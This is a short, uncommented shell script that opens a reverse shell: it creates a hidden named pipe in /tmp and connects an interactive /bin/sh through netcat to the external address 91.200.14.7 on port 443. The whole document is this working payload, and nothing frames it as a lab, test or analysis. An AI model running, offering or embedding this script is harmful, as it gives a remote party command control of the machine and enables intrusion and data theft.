#!/bin/sh
rm -f /tmp/.k; mkfifo /tmp/.k
cat /tmp/.k | /bin/sh -i 2>&1 | nc 91.200.14.7 443 > /tmp/.k
